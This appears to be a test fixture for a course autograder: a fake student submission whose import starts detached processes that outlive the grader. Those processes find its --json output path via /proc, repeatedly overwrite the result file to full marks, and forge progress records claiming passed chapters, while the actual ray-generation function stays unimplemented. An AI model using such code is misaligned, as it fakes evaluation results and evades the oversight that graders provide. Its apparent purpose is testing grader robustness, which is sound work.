"""An attack: at import, start processes that outlive the grader and rewrite its results
once it has written them: one forked into a session of its own (setsid), one double-forked
daemon. Each prints its pid (which the test reads from the student's output), finds the
grader's --json path in the grader's command line (/proc/<pid>/cmdline, which anyone may
read), and for 12 s keeps rewriting that file to full marks; the file also writes a progress
record claiming chapters 1 and 9 passed, beside itself and beside the grader's result. The
old grader exited, the process rewrote the JSON (exit code 1, table 0/10, JSON 10/10), and
the record kept its pass."""

import json
import os
import sys
import time
from pathlib import Path


def _parent(pid):
    stat = Path(f"/proc/{pid}/stat").read_bytes()
    return int(stat[stat.rfind(b")") + 2:].split()[1])


def _json_path():
    pid = os.getpid()
    while pid > 1:
        pid = _parent(pid)
        try:
            words = Path(f"/proc/{pid}/cmdline").read_bytes().decode().split("\0")
        except OSError:
            continue
        if "--json" in words:
            return Path(words[words.index("--json") + 1])
    return None


def _forge(result):
    for _ in range(600):
        for place in (result, result.parent / ".ptlab-exercises.json", Path(__file__).parent /
                      ".ptlab-exercises.json"):
            try:
                if place.name == "result.json":
                    forged = json.loads(place.read_text())
                    forged.update(score=forged["max_score"], full_marks=True)
                else:
                    forged = {key: {"score": 10, "max_score": 10, "full_marks": True, "file": name,
                                    "when": "2999-01-01 00:00:00"}
                              for key, name in (("01", "outlives_the_grader.py"),
                                                ("09", "09_microfacet.py"))}
                place.write_text(json.dumps(forged))
            except (ValueError, KeyError, OSError):
                pass
        time.sleep(0.02)


_result = _json_path() or Path("result.json")
if os.fork() == 0:
    os.setsid()
    print(os.getpid(), flush=True)
    _forge(_result)
    os._exit(0)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        print(os.getpid(), flush=True)
        _forge(_result)
    os._exit(0)
time.sleep(0.2)
sys.stdout.flush()


def generate_rays(camera, width, height, pixel_x, pixel_y, u):
    raise NotImplementedError("generate_rays")
